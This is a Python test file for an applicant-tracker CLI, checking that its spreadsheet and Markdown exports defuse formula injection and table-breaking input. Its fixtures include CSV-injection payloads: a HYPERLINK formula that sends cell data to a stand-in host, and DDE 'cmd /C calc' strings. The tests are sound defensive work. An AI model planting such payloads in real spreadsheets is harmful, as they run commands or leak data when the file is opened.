"""Spreadsheet formulas (OWASP CSV injection): exported text is inert, and our own exports import back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from .run_cli import ID_A, Run, runner

#: what Excel, LibreOffice and Sheets read as the start of a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: each one would run as a formula in Excel/LibreOffice if written as is
HOSTILE_NAME = '=HYPERLINK("http://x/?"&F4,"click")'
HOSTILE = {
    "name": HOSTILE_NAME,
    "note": "+1+cmd|' /C calc'!A0",
    "branch": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "-2+3",
}


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return runner(tmp_path / "tracker.json", cwd=tmp_path)


def _add_hostile(run: Run) -> None:
    r = run("add", HOSTILE["name"], "--applied", "2025-01-10", "--note", HOSTILE["note"], "--branch", HOSTILE["branch"],
            "--id-number", ID_A)
    assert r.code == 0, r.err
    r = run("add", "\t=1+1", "--applied", "2025-01-10", "--note", "\r=2+2")
    assert r.code == 0, r.err


def _formula_cells(path: Path) -> list[str]:
    wb = load_workbook(path)  # not data_only: we want to see formulas as formulas
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_xlsx_roster_has_no_formula_cells_and_keeps_the_text(run: Run, tmp_path: Path) -> None:
    _add_hostile(run)
    out = tmp_path / "r.xlsx"
    assert run("export", "--stage", "applicant", "-o", str(out)).code == 0
    assert _formula_cells(out) == []
    values = [c.value for row in load_workbook(out).active.iter_rows() for c in row]
    # 备注 also says what is overdue, after the person's own note
    assert HOSTILE["name"] in values and any(str(v).startswith(HOSTILE["note"]) for v in values)


def test_xlsx_person_record_has_no_formula_cells(run: Run, tmp_path: Path) -> None:
    _add_hostile(run)
    out = tmp_path / "p.xlsx"
    assert run("export", "--person", "1", "--format", "xlsx", "-o", str(out)).code == 0
    assert _formula_cells(out) == []


def test_xlsx_text_that_looks_like_an_error_value_stays_text(run: Run, tmp_path: Path) -> None:
    assert run("add", "#N/A", "--applied", "2025-01-10").code == 0
    out = tmp_path / "r.xlsx"
    assert run("export", "--stage", "applicant", "-o", str(out)).code == 0
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == "#N/A"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_csv_roster_cells_never_start_with_a_formula_character(run: Run, tmp_path: Path) -> None:
    _add_hostile(run)
    out = tmp_path / "r.csv"
    assert run("export", "--stage", "applicant", "--format", "csv", "-o", str(out)).code == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE["name"] in cells and "'=1+1" in cells


def test_our_csv_export_imports_back_with_the_original_text(run: Run, tmp_path: Path) -> None:
    _add_hostile(run)
    out = tmp_path / "r.csv"
    assert run("export", "--stage", "applicant", "--format", "csv", "--full-id", "-o", str(out)).code == 0
    other = runner(tmp_path / "other.json", cwd=tmp_path)
    r = other("import", str(out))
    assert r.code == 0, r.out + r.err
    people = {p["name"]: p for p in other("list", "--json").json()}
    assert set(people) == {HOSTILE["name"], "=1+1"}  # the leading tab was stripped when it was added
    hostile = people[HOSTILE["name"]]
    assert (hostile["note"], hostile["branch"]) == (HOSTILE["note"], HOSTILE["branch"])


def test_a_quote_we_did_not_add_is_kept_on_import(run: Run, tmp_path: Path) -> None:
    sheet = tmp_path / "s.csv"
    sheet.write_text("姓名,递交入党申请书时间,备注\n'张三',2025-01-10,'引号'\n", encoding="utf-8")
    assert run("import", str(sheet)).code == 0
    (p,) = run("list", "--json").json()
    assert (p["name"], p["note"]) == ("'张三'", "'引号'")


def test_xlsx_formula_cells_import_as_their_cached_value_not_the_formula(run: Run, tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "递交入党申请书时间", "备注"])
    ws.append(["李四", "2025-01-10", '=HYPERLINK("http://x/?"&A2,"click")'])
    sheet = tmp_path / "f.xlsx"
    wb.save(sheet)
    r = run("import", str(sheet))
    assert r.code == 0, r.out + r.err
    (p,) = run("list", "--json").json()
    assert "HYPERLINK" not in str(p.get("note"))


def _md_table(text: str) -> list[list[str]]:
    """The table's rows split on unescaped pipes, as GitHub's Markdown does; every line of the table
    (any line break, \\r included, ends a line) must start and end with a pipe."""
    lines = text.splitlines()
    start = next(i for i, ln in enumerate(lines) if ln.startswith("|"))
    end = next((i for i in range(start, len(lines)) if not lines[i].strip()), len(lines))
    rows = []
    for line in lines[start:end]:
        assert line.startswith("|") and line.rstrip().endswith("|"), line
        rows.append(re.split(r"(?<!\\)(?:\\\\)*\|", line.strip())[1:-1])
    return rows


@pytest.mark.parametrize(("name", "note"), [("甲|乙\\|丙", "备注"), ("张三", "a\r\nb|c\rd"), ("李四\n| 丁 |", "\\")])
def test_markdown_roster_cell_cannot_break_the_table(run: Run, tmp_path: Path, name: str, note: str) -> None:
    assert run("add", name, "--applied", "2025-01-10", "--note", note).code == 0
    out = tmp_path / "r.md"
    assert run("export", "--stage", "applicant", "--format", "md", "-o", str(out)).code == 0
    rows = _md_table(out.read_text(encoding="utf-8"))
    assert len(rows) == 3 and len({len(r) for r in rows}) == 1  # header, rule, one person: same width


def test_markdown_person_record_note_cannot_start_a_new_line(run: Run, tmp_path: Path) -> None:
    assert run("add", "王五", "--applied", "2025-01-10", "--note", "x\n# 假标题\n| a | b |").code == 0
    out = tmp_path / "p.md"
    assert run("export", "--person", "1", "-o", str(out)).code == 0
    text = out.read_text(encoding="utf-8")
    assert not [ln for ln in text.splitlines() if ln.startswith("# 假标题")]
    assert len({len(r) for r in _md_table(text)}) == 1
